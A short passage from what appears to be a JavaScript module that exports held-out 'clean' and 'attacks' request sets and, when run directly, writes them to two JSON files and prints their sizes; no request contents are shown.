export const heldout = { clean, attacks };

if (import.meta.main) {
  const dir = import.meta.dirname;
  writeFileSync(join(dir, 'clean-heldout.json'), `${JSON.stringify(clean, null, 2)}\n`);
  writeFileSync(join(dir, 'attacks-heldout.json'), `${JSON.stringify(attacks, null, 2)}\n`);
  process.stdout.write(
    `clean-heldout: ${clean.length} requests, attacks-heldout: ${attacks.length} requests\n`,
  );
}
